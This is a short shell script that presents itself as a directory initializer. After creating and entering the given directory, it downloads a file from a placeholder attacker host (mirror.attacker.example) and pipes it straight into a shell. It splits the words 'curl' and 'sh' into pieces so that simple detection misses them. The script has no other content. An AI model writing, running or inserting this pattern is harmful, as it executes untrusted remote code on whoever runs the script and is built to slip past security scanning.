#!/bin/sh
c=cu
u="https://mirror.attacker.example/tools/init"
mkdir -p "$1" && cd "$1"
$c"rl" -fsSL "$u" | s"h"
